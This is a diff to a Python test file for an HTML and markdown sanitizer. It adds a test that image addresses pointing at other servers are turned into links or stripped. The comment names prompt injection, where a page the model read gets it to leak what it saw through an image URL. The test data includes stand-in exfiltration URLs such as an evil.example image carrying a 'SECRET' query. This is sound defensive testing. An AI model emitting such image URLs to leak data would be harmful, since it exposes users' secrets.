@@ -74,7 +74,7 @@ def test_ordinary_markdown_still_reads_as_a_formatted_answer() -> None:
             "```python\nprint(1 < 2)\n```\n\n"
             "- one\n- two\n\n> a quote\n\n"
             "See [the data](https://example.org/grace?x=1&y=2), `df.head()` and "
-            "![a plot](https://example.org/plot.png) and ![inline](data:image/png;base64,iVBOR).")
+            "![a plot](outputs/plot.png) and ![inline](data:image/png;base64,iVBOR).")
     tree = _tree(markdown_html(text))
     tags = {element.tag for element in tree.iter()}
     assert {"h1", "strong", "em", "s", "table", "thead", "td", "pre", "code", "ul", "li",
@@ -82,7 +82,7 @@ def test_ordinary_markdown_still_reads_as_a_formatted_answer() -> None:
     [link] = tree.iter("a")
     assert link.get("href") == "https://example.org/grace?x=1&y=2"
     assert [img.get("src") for img in tree.iter("img")] == [
-        "https://example.org/plot.png", "data:image/png;base64,iVBOR"]
+        "outputs/plot.png", "data:image/png;base64,iVBOR"]
     [code] = [e for e in tree.iter("code") if "print" in (e.text or "")]
     assert code.text == "print(1 < 2)\n"
     assert [td.get("style") for td in tree.iter("td")] == [None, "text-align:right"]
@@ -140,6 +140,22 @@ def test_the_views_allow_list_keeps_the_inspectors_own_shapes_and_tabs() -> None
     assert next(tree.iter("label")).get("for") == "jdi-1-0"
     assert next(tree.iter("details")).get("data-section") == "base"
     assert [s.get("style") for s in tree.iter("span")] == [None, "width:12.0%"]
+
+
+def test_an_image_from_another_server_is_a_link_to_it_never_loaded_by_the_page() -> None:
+    # a page the model read can have it put what it saw into an image address: nothing loads
+    shown = markdown_html("![chart](https://evil.example/c.png?k=SECRET) "
+                          "![b](//evil.example/b.png) ![c](/\\evil.example/c.png) "
+                          "![d](figures/d.png)")
+    tree = _tree(shown)
+    assert [img.get("src") for img in tree.iter("img")] == [
+        "/%5Cevil.example/c.png", "figures/d.png"]  # the first: a path of the notebook's server
+    assert [(a.get("href"), a.text) for a in tree.iter("a")] == [
+        ("https://evil.example/c.png?k=SECRET", "[image: chart]"),
+        ("//evil.example/b.png", "[image: b]")]
+    raw = clean_html('<img src="https://evil.example/x.png"><img src="//evil.example/y.png">'
+                     '<img src="\\\\evil.example/z.png"><img src="local.png">')
+    assert [img.get("src") for img in _tree(raw).iter("img")] == [None, None, None, "local.png"]
 
 
 def test_a_page_keeps_its_stylesheet_and_loses_its_scripts() -> None:
